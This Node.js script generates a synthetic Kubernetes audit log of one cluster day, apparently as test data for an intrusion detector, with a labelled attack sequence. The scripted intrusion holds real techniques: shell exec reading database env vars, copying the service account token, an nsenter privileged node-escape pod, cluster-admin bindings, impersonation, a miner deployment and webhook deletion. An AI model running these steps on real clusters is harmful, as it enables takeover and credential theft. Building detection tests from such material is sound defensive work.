#!/usr/bin/env node
// Writes cluster-day.jsonl: one day of a small cluster's API server audit log (three workers, a
// shop and a payments team, CI deploys, monitoring, people using kubectl) with one intrusion mixed
// in, and attacks.jsonl: the auditID of every attack step and the detections it must raise.
// Deterministic: rerunning it rewrites identical files. Run: node examples/audit/generate.mjs
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url));
let seq = 0;
const id = () => {
  const h = crypto.createHash("sha1").update(`cluster-day-${seq++}`).digest("hex");
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
};
// A small linear congruential generator: reproducible "randomness" for the routine traffic.
let state = 42;
const rand = () => ((state = (state * 1103515245 + 12345) % 2147483648) / 2147483648);
const pick = (xs) => xs[Math.floor(rand() * xs.length)];

const KUBECTL = "kubectl/v1.34.2 (linux/amd64) kubernetes/7f3e2b1";
const groupsOf = (user) =>
  user.startsWith("system:serviceaccount:") ? ["system:serviceaccounts", `system:serviceaccounts:${user.split(":")[2]}`, "system:authenticated"]
    : user.startsWith("system:node:") ? ["system:nodes", "system:authenticated"]
      : user === "system:anonymous" ? ["system:unauthenticated"]
        : user.startsWith("system:") ? ["system:authenticated"]
          : ["platform-team", "system:authenticated"];

/** One request, logged at each of `stages`. */
function request(t, o) {
  const auditID = o.auditID ?? id();
  const group = o.group ?? "";
  const version = o.version ?? "v1";
  const base = group ? `/apis/${group}/${version}` : `/api/${version}`;
  const named = o.name && o.verb !== "create" ? `/${o.name}` : "";
  const uri = o.uri ?? `${base}${o.ns ? `/namespaces/${o.ns}` : ""}/${o.resource}${o.sub ? `/${o.name}/${o.sub}` : named}${o.query ?? ""}`;
  const code = o.code ?? (o.verb === "create" && !o.sub ? 201 : 200);
  const stages = o.stages ?? ["ResponseComplete"];
  return stages.map((stage, i) => {
    const e = {
      kind: "Event",
      apiVersion: "audit.k8s.io/v1",
      level: o.body ? "RequestResponse" : "Metadata",
      auditID,
      stage,
      requestURI: uri,
      verb: o.verb,
      user: o.user === "" ? {} : { username: o.user, groups: groupsOf(o.user) },
    };
    if (o.impersonate) e.impersonatedUser = o.impersonate;
    e.sourceIPs = [o.ip ?? (o.user.startsWith("system:node:") ? `10.0.1.${o.user.slice(-1)}` : o.user.startsWith("system:") ? "10.0.0.10" : "10.0.12.34")];
    e.userAgent = o.ua ?? KUBECTL;
    if (o.resource) {
      e.objectRef = { resource: o.resource, ...(o.ns ? { namespace: o.ns } : {}), ...(o.name ? { name: o.name } : {}), ...(group ? { apiGroup: group } : {}), apiVersion: version, ...(o.sub ? { subresource: o.sub } : {}) };
    }
    if (stage !== "RequestReceived") e.responseStatus = code >= 400 ? { metadata: {}, status: "Failure", message: `${o.resource ?? "request"} is forbidden: User "${o.user}" cannot ${o.verb} resource "${o.resource}"`, reason: code === 401 ? "Unauthorized" : "Forbidden", code } : { metadata: {}, code };
    if (o.body) e.requestObject = o.body;
    const received = new Date(t);
    e.requestReceivedTimestamp = iso(received);
    e.stageTimestamp = iso(new Date(t + (stage === "RequestReceived" ? 0 : 3 + i * 40)));
    if (stage !== "RequestReceived") {
      e.annotations = code < 400 ? { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": o.user.startsWith("system:") ? "" : 'RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "platform-team"' } : { "authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": "" };
    }
    return e;
  });
}
const iso = (d) => d.toISOString().replace(/Z$/, "123Z");

const DAY = Date.parse("2026-11-28T00:00:00Z");
const at = (h, m, s = 0) => DAY + ((h * 60 + m) * 60 + s) * 1000;
const events = [];
const add = (t, o) => events.push(...request(t, o));
const attacks = [];
const attack = (t, detections, o) => {
  const auditID = id();
  add(t, { ...o, auditID });
  attacks.push({ auditID, detections, what: o.what });
};

const nodes = ["worker-1", "worker-2", "worker-3"];
const shopPods = ["web-7c9d8b6f5-2xk8p", "web-7c9d8b6f5-q7m4z", "cart-5f6b7c8d9-8h2jd"];
const paymentsPods = ["api-7d9f6c5b8-x2k4q", "api-7d9f6c5b8-m9n3v"];
const people = ["alice@example.com", "bob@example.com", "carol@example.com"];
const container = (name, image, extra = {}) => ({ name, image, ports: [{ containerPort: 8080 }], resources: { requests: { cpu: "100m", memory: "128Mi" }, limits: { memory: "256Mi" } }, securityContext: { allowPrivilegeEscalation: false, runAsNonRoot: true, capabilities: { drop: ["ALL"] } }, ...extra });
const deployment = (name, ns, image) => ({ kind: "Deployment", apiVersion: "apps/v1", metadata: { name, namespace: ns, labels: { app: name } }, spec: { replicas: 2, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { serviceAccountName: name, containers: [container(name, image)] } } } });

// ------------------------------------------------------------------ routine traffic, all day
for (let minute = 0; minute < 24 * 60; minute += 20) {
  const h = Math.floor(minute / 60);
  const m = minute % 60;
  for (const [i, node] of nodes.entries()) {
    add(at(h, m, 2 + i), { user: `system:node:${node}`, verb: "update", resource: "leases", group: "coordination.k8s.io", ns: "kube-node-lease", name: node, ua: "kubelet/v1.34.2 (linux/amd64) kubernetes/7f3e2b1" });
    add(at(h, m, 5 + i), { user: `system:node:${node}`, verb: "patch", resource: "nodes", sub: "status", name: node, ua: "kubelet/v1.34.2 (linux/amd64) kubernetes/7f3e2b1" });
  }
  add(at(h, m, 9), { user: "system:kube-controller-manager", verb: "update", resource: "leases", group: "coordination.k8s.io", ns: "kube-system", name: "kube-controller-manager", ua: "kube-controller-manager/v1.34.2 (linux/amd64) kubernetes/7f3e2b1/leader-election" });
  add(at(h, m, 11), { user: "system:kube-scheduler", verb: "update", resource: "leases", group: "coordination.k8s.io", ns: "kube-system", name: "kube-scheduler", ua: "kube-scheduler/v1.34.2 (linux/amd64) kubernetes/7f3e2b1/leader-election" });
  add(at(h, m, 14), { user: "system:serviceaccount:monitoring:prometheus", verb: "list", resource: "pods", ua: "Prometheus/2.53.0", query: "?limit=500&resourceVersion=0" });
  add(at(h, m, 15), { user: "system:serviceaccount:monitoring:prometheus", verb: "get", resource: "nodes", sub: "metrics", name: pick(nodes), ua: "Prometheus/2.53.0", uri: undefined });
  add(at(h, m, 17), { user: "system:anonymous", verb: "get", uri: pick(["/readyz", "/livez", "/healthz"]), ua: "kube-probe/1.34", ip: "10.0.0.2" });
  if (m === 0) {
    add(at(h, m, 21), { user: "system:serviceaccount:cert-manager:cert-manager", verb: "watch", resource: "secrets", uri: "/api/v1/secrets?allowWatchBookmarks=true&labelSelector=controller.cert-manager.io%2Ffao&watch=true", ua: "cert-manager-controller/v1.16.2" });
    add(at(h, m, 23), { user: "system:serviceaccount:kube-system:coredns", verb: "watch", resource: "endpointslices", group: "discovery.k8s.io", uri: "/apis/discovery.k8s.io/v1/endpointslices?allowWatchBookmarks=true&watch=true", ua: "coredns/v1.12.0" });
    // Projected service account tokens are refreshed by the kubelets.
    add(at(h, m, 25), { user: `system:node:${pick(nodes)}`, verb: "create", resource: "serviceaccounts", sub: "token", ns: pick(["shop", "payments"]), name: pick(["web", "cart", "api"]), ua: "kubelet/v1.34.2 (linux/amd64) kubernetes/7f3e2b1" });
  }
}

// People at work (09:00–18:00): get, describe, logs, rollout restarts; RequestReceived stages too.
for (let minute = 9 * 60; minute < 18 * 60; minute += 7) {
  const who = pick(people);
  const ns = pick(["shop", "payments"]);
  const t = at(Math.floor(minute / 60), minute % 60, Math.floor(rand() * 50));
  const pod = pick(ns === "shop" ? shopPods : paymentsPods);
  const r = rand();
  if (r < 0.35) add(t, { user: who, verb: "list", resource: "pods", ns, query: "?limit=500", stages: ["RequestReceived", "ResponseComplete"] });
  else if (r < 0.55) {
    add(t, { user: who, verb: "get", resource: "pods", ns, name: pod });
    add(t + 200, { user: who, verb: "list", resource: "events", ns, query: `?fieldSelector=involvedObject.name%3D${pod}` });
  } else if (r < 0.75) add(t, { user: who, verb: "get", resource: "pods", sub: "log", ns, name: pod, query: "?container=" + (ns === "shop" ? "web" : "api") + "&tailLines=200" });
  else if (r < 0.85) add(t, { user: who, verb: "list", resource: "deployments", group: "apps", ns, query: "?limit=500" });
  else if (r < 0.92) add(t, { user: who, verb: "get", resource: "namespaces", name: ns });
  else add(t, { user: who, verb: "patch", resource: "deployments", group: "apps", ns, name: ns === "shop" ? "web" : "api", body: { spec: { template: { metadata: { annotations: { "kubectl.kubernetes.io/restartedAt": new Date(t).toISOString() } } } } } });
}
// Bob is not allowed to list nodes; he tries twice (far below a burst).
add(at(10, 12, 3), { user: "bob@example.com", verb: "list", resource: "nodes", code: 403 });
add(at(10, 12, 9), { user: "bob@example.com", verb: "list", resource: "nodes", code: 403 });

// CI deploys: apply of a Deployment, Service, ConfigMap and Ingress with TLS; controllers follow.
for (const [h, m, app, ns, image] of [[10, 30, "web", "shop", "registry.example.com/shop/web:1.8.2"], [13, 5, "cart", "shop", "registry.example.com/shop/cart:2.4.0"], [16, 40, "api", "payments", "registry.example.com/payments/api:5.1.3"]]) {
  const ci = "system:serviceaccount:ci:deployer";
  const ua = "argocd-application-controller/v2.13.1";
  add(at(h, m, 1), { user: ci, verb: "patch", resource: "configmaps", ns, name: `${app}-config`, ua, body: { data: { LOG_LEVEL: "info", FEATURE_FLAGS: "checkout-v2" } } });
  add(at(h, m, 2), { user: ci, verb: "update", resource: "configmaps", ns, name: `${app}-config`, ua, body: { kind: "ConfigMap", apiVersion: "v1", metadata: { name: `${app}-config`, namespace: ns }, data: { LOG_LEVEL: "info", DATABASE_HOST: `${app}-db.${ns}.svc`, FEATURE_FLAGS: "checkout-v2" } } });
  add(at(h, m, 3), { user: ci, verb: "update", resource: "deployments", group: "apps", ns, name: app, ua, body: deployment(app, ns, image) });
  add(at(h, m, 4), { user: ci, verb: "update", resource: "services", ns, name: app, ua, body: { kind: "Service", apiVersion: "v1", metadata: { name: app, namespace: ns }, spec: { type: "ClusterIP", selector: { app }, ports: [{ port: 80, targetPort: 8080 }] } } });
  add(at(h, m, 5), { user: ci, verb: "update", resource: "ingresses", group: "networking.k8s.io", ns, name: app, ua, body: { kind: "Ingress", apiVersion: "networking.k8s.io/v1", metadata: { name: app, namespace: ns }, spec: { ingressClassName: "nginx", tls: [{ hosts: [`${app}.example.com`], secretName: `${app}-tls` }], rules: [{ host: `${app}.example.com`, http: { paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: app, port: { number: 80 } } } }] } }] } } });
  add(at(h, m, 6), { user: ci, verb: "get", resource: "secrets", ns, name: `${app}-tls`, ua });
  add(at(h, m, 7), { user: "system:serviceaccount:kube-system:deployment-controller", verb: "create", resource: "replicasets", group: "apps", ns, ua: "kube-controller-manager/v1.34.2 (linux/amd64) kubernetes/7f3e2b1/system:serviceaccount:kube-system:deployment-controller" });
  for (let i = 0; i < 2; i++) {
    const podName = `${app}-6b8d9f7c4-${["k2x9q", "p8w3m"][i]}`;
    add(at(h, m, 8 + i), { user: "system:serviceaccount:kube-system:replicaset-controller", verb: "create", resource: "pods", ns, ua: "kube-controller-manager/v1.34.2 (linux/amd64) kubernetes/7f3e2b1/system:serviceaccount:kube-system:replicaset-controller", body: { kind: "Pod", apiVersion: "v1", metadata: { generateName: `${app}-6b8d9f7c4-`, namespace: ns, labels: { app } }, spec: deployment(app, ns, image).spec.template.spec } });
    add(at(h, m, 10 + i), { user: "system:kube-scheduler", verb: "create", resource: "pods", sub: "binding", ns, name: podName, ua: "kube-scheduler/v1.34.2 (linux/amd64) kubernetes/7f3e2b1/scheduler" });
  }
}
// A node rejoins after maintenance: the DaemonSet controller recreates kube-proxy (privileged,
// hostNetwork) — Kubernetes itself, not an alert.
add(at(7, 45, 0), { user: "system:serviceaccount:kube-system:daemon-set-controller", verb: "create", resource: "pods", ns: "kube-system", ua: "kube-controller-manager/v1.34.2", body: { kind: "Pod", apiVersion: "v1", metadata: { generateName: "kube-proxy-", namespace: "kube-system" }, spec: { hostNetwork: true, priorityClassName: "system-node-critical", containers: [{ name: "kube-proxy", image: "registry.k8s.io/kube-proxy:v1.34.2", securityContext: { privileged: true }, volumeMounts: [{ name: "lib-modules", mountPath: "/lib/modules", readOnly: true }] }], volumes: [{ name: "lib-modules", hostPath: { path: "/lib/modules" } }] } } });
// The certificate controller approves a kubelet serving certificate.
add(at(7, 45, 30), { user: "system:serviceaccount:kube-system:certificate-controller", verb: "update", resource: "certificatesigningrequests", sub: "approval", group: "certificates.k8s.io", name: "csr-w7k2p", ua: "kube-controller-manager/v1.34.2" });
// The API server reconciles its default roles at start-up.
add(at(6, 0, 1), { user: "system:apiserver", verb: "update", resource: "clusterroles", group: "rbac.authorization.k8s.io", name: "system:discovery", ua: "kube-apiserver/v1.34.2 (linux/amd64) kubernetes/7f3e2b1" });

// ------------------------------------------------------------------ the intrusion, 14:02–14:58
const web = "system:serviceaccount:shop:web";
const atk = "203.0.113.66";
const R = "rbac.authorization.k8s.io";
// A token stolen from a shop pod probes what it may do: 14 refusals in 40 seconds.
for (let i = 0; i < 14; i++) {
  const [resource, ns] = [["secrets", "kube-system"], ["pods", "kube-system"], ["clusterroles", ""], ["nodes", ""], ["secrets", "payments"], ["deployments", "payments"], ["serviceaccounts", "kube-system"]][i % 7];
  const auditID = id();
  add(at(14, 2, i * 3), { auditID, user: web, verb: "list", resource, ns: ns || undefined, group: resource === "clusterroles" ? R : resource === "deployments" ? "apps" : "", code: 403, ip: atk });
  if (i === 9) attacks.push({ auditID, detections: ["unauthorized-request-burst"], what: "the tenth refused request of the stolen web token within 60s" });
}
const M = "mallory@example.com";
attack(at(14, 5, 10), ["secret-read-by-user"], { what: "reads the payments database secret", user: M, verb: "get", resource: "secrets", ns: "payments", name: "postgres-credentials", ip: atk });
attack(at(14, 6, 0), ["pod-exec"], { what: "opens a shell in the payments API", user: M, verb: "create", resource: "pods", sub: "exec", ns: "payments", name: paymentsPods[0], code: 101, stages: ["ResponseStarted", "ResponseComplete"], query: "?command=%2Fbin%2Fsh&command=-c&command=env+%7C+grep+DB_&container=api&stderr=true&stdout=true", ip: atk });
attack(at(14, 7, 30), ["pod-exec", "pod-file-copy"], { what: "copies the service account token out (kubectl cp)", user: M, verb: "create", resource: "pods", sub: "exec", ns: "payments", name: paymentsPods[0], code: 101, stages: ["ResponseStarted", "ResponseComplete"], query: "?command=tar&command=cf&command=-&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount&container=api&stderr=true&stdout=true", ip: atk });
attack(at(14, 9, 0), ["pod-port-forward"], { what: "forwards the database port", user: M, verb: "create", resource: "pods", sub: "portforward", ns: "payments", name: "postgres-0", code: 101, stages: ["ResponseStarted", "ResponseComplete"], query: "?ports=5432", ip: atk });
attack(at(14, 11, 0), ["pod-attach"], { what: "attaches to the debug shell", user: M, verb: "create", resource: "pods", sub: "attach", ns: "payments", name: paymentsPods[1], code: 101, stages: ["ResponseStarted"], query: "?container=api&stdin=true&stdout=true&tty=true", ip: atk });
attack(at(14, 12, 0), ["ephemeral-container-added"], { what: "injects a netshoot debug container", user: M, verb: "patch", resource: "pods", sub: "ephemeralcontainers", ns: "payments", name: paymentsPods[1], ip: atk, body: { spec: { ephemeralContainers: [{ name: "debugger-x7k2p", image: "nicolaka/netshoot:latest", targetContainerName: "api", stdin: true, tty: true }] } } });
attack(at(14, 14, 0), ["psa-enforcement-weakened"], { what: "relabels default to privileged", user: M, verb: "patch", resource: "namespaces", name: "default", ip: atk, body: { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } } });
attack(at(14, 15, 0), ["privileged-pod-created", "host-namespace-pod-created", "sensitive-mount-pod-created"], { what: "creates a node-escape pod", user: M, verb: "create", resource: "pods", ns: "default", ip: atk, body: { kind: "Pod", apiVersion: "v1", metadata: { name: "node-shell", namespace: "default" }, spec: { hostPID: true, nodeName: "worker-2", containers: [{ name: "shell", image: "alpine:3.20", command: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], stdin: true, tty: true, securityContext: { privileged: true }, volumeMounts: [{ name: "host", mountPath: "/host" }] }], volumes: [{ name: "host", hostPath: { path: "/" } }] } } });
attack(at(14, 17, 0), ["dangerous-capabilities-pod-created"], { what: "creates a SYS_ADMIN tools pod", user: M, verb: "create", resource: "pods", ns: "default", ip: atk, body: { kind: "Pod", apiVersion: "v1", metadata: { name: "tools", namespace: "default" }, spec: { containers: [{ name: "tools", image: "ubuntu:24.04", command: ["sleep", "infinity"], securityContext: { capabilities: { add: ["SYS_ADMIN"] } } }] } } });
attack(at(14, 20, 0), ["service-account-created-in-kube-system"], { what: "plants a service account in kube-system", user: M, verb: "create", resource: "serviceaccounts", ns: "kube-system", ip: atk, body: { kind: "ServiceAccount", apiVersion: "v1", metadata: { name: "node-problem-helper", namespace: "kube-system" } } });
attack(at(14, 20, 30), ["cluster-admin-binding-created"], { what: "binds it to cluster-admin", user: M, verb: "create", resource: "clusterrolebindings", group: R, ip: atk, body: { kind: "ClusterRoleBinding", apiVersion: "rbac.authorization.k8s.io/v1", metadata: { name: "node-problem-helper" }, roleRef: { apiGroup: R, kind: "ClusterRole", name: "cluster-admin" }, subjects: [{ kind: "ServiceAccount", name: "node-problem-helper", namespace: "kube-system" }] } });
attack(at(14, 21, 0), ["service-account-token-created"], { what: "mints a day-long token for it", user: M, verb: "create", resource: "serviceaccounts", sub: "token", ns: "kube-system", name: "node-problem-helper", ip: atk, body: { kind: "TokenRequest", apiVersion: "authentication.k8s.io/v1", metadata: {}, spec: { audiences: null, expirationSeconds: 86400 } } });
attack(at(14, 23, 0), ["workload-created-in-kube-system"], { what: "deploys a look-alike into kube-system", user: M, verb: "create", resource: "deployments", group: "apps", ns: "kube-system", ip: atk, body: deployment("kube-dns-metrics", "kube-system", "ghcr.io/attacker/miner:latest") });
attack(at(14, 25, 0), ["wildcard-role-created", "write-clusterrole-created", "exec-role-created"], { what: "creates an all-powerful ClusterRole", user: M, verb: "create", resource: "clusterroles", group: R, ip: atk, body: { kind: "ClusterRole", apiVersion: "rbac.authorization.k8s.io/v1", metadata: { name: "ops-helper" }, rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] } });
attack(at(14, 26, 0), ["exec-role-created"], { what: "adds an exec role in payments", user: M, verb: "create", resource: "roles", group: R, ns: "payments", ip: atk, body: { kind: "Role", apiVersion: "rbac.authorization.k8s.io/v1", metadata: { name: "debugger", namespace: "payments" }, rules: [{ apiGroups: [""], resources: ["pods/exec"], verbs: ["create"] }] } });
attack(at(14, 27, 0), ["public-binding-created"], { what: "grants view to anonymous", user: M, verb: "create", resource: "clusterrolebindings", group: R, ip: atk, body: { kind: "ClusterRoleBinding", apiVersion: "rbac.authorization.k8s.io/v1", metadata: { name: "public-view" }, roleRef: { apiGroup: R, kind: "ClusterRole", name: "view" }, subjects: [{ kind: "User", apiGroup: R, name: "system:anonymous" }] } });
attack(at(14, 29, 0), ["anonymous-request-allowed"], { what: "anonymous enumeration from the internet succeeds", user: "system:anonymous", verb: "list", resource: "configmaps", ns: "kube-system", ip: "198.51.100.23", ua: "curl/8.5.0" });
attack(at(14, 31, 0), ["system-clusterrole-modified"], { what: "adds itself to a system binding", user: M, verb: "patch", resource: "clusterrolebindings", group: R, name: "system:node-proxier", ip: atk, body: { subjects: [{ kind: "User", name: M }] } });
attack(at(14, 33, 0), ["impersonation", "secret-read-by-user"], { what: "lists kube-system secrets as system:admin", user: M, verb: "list", resource: "secrets", ns: "kube-system", impersonate: { username: "system:admin", groups: ["system:masters", "system:authenticated"] }, ip: atk });
attack(at(14, 35, 0), ["node-proxy-access"], { what: "runs a command through the kubelet API", user: M, verb: "create", resource: "nodes", sub: "proxy", name: "worker-2", uri: "/api/v1/nodes/worker-2/proxy/run/payments/api-7d9f6c5b8-x2k4q/api?cmd=id", ip: atk });
attack(at(14, 38, 0), ["nodeport-service-created"], { what: "exposes a backdoor on a node port", user: M, verb: "create", resource: "services", ns: "default", ip: atk, body: { kind: "Service", apiVersion: "v1", metadata: { name: "node-shell", namespace: "default" }, spec: { type: "NodePort", selector: { app: "node-shell" }, ports: [{ port: 22, targetPort: 22, nodePort: 31337 }] } } });
attack(at(14, 40, 0), ["csr-approved"], { what: "approves a client certificate for itself", user: M, verb: "update", resource: "certificatesigningrequests", sub: "approval", group: "certificates.k8s.io", name: "mallory-admin", ip: atk, body: { kind: "CertificateSigningRequest", apiVersion: "certificates.k8s.io/v1", metadata: { name: "mallory-admin" }, spec: { signerName: "kubernetes.io/kube-apiserver-client", usages: ["client auth"], request: "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K" }, status: { conditions: [{ type: "Approved", status: "True", reason: "KubectlApprove" }] } } });
attack(at(14, 42, 0), ["admission-webhook-changed"], { what: "deletes the policy webhook", user: M, verb: "delete", resource: "validatingwebhookconfigurations", group: "admissionregistration.k8s.io", name: "gatekeeper-validating-webhook-configuration", ip: atk });
// Not an intrusion step, but alert-worthy all the same: mistakes people make on a normal day.
attack(at(15, 10, 0), ["configmap-credentials-created"], { what: "alice pastes an AWS key into a ConfigMap", user: "alice@example.com", verb: "create", resource: "configmaps", ns: "shop", body: { kind: "ConfigMap", apiVersion: "v1", metadata: { name: "exporter-config", namespace: "shop" }, data: { AWS_ACCESS_KEY_ID: "AKIAQ3EGRT5YV7W2KD4H", REGION: "eu-west-1" } } });
attack(at(15, 20, 0), ["ingress-without-tls-created"], { what: "bob publishes an admin UI over plain HTTP", user: "bob@example.com", verb: "create", resource: "ingresses", group: "networking.k8s.io", ns: "shop", body: { kind: "Ingress", apiVersion: "networking.k8s.io/v1", metadata: { name: "admin", namespace: "shop" }, spec: { ingressClassName: "nginx", rules: [{ host: "admin.shop.example.com", http: { paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: "admin", port: { number: 80 } } } }] } }] } } });

events.sort((a, b) => (a.stageTimestamp < b.stageTimestamp ? -1 : a.stageTimestamp > b.stageTimestamp ? 1 : 0));
fs.writeFileSync(path.join(here, "cluster-day.jsonl"), events.map((e) => JSON.stringify(e)).join("\n") + "\n");
// JSON lines, not .json: `kubeward scan examples/` reads every .json file as manifests.
fs.writeFileSync(path.join(here, "attacks.jsonl"), attacks.map((a) => JSON.stringify(a)).join("\n") + "\n");
console.log(`${events.length} events, ${attacks.length} attack steps`);
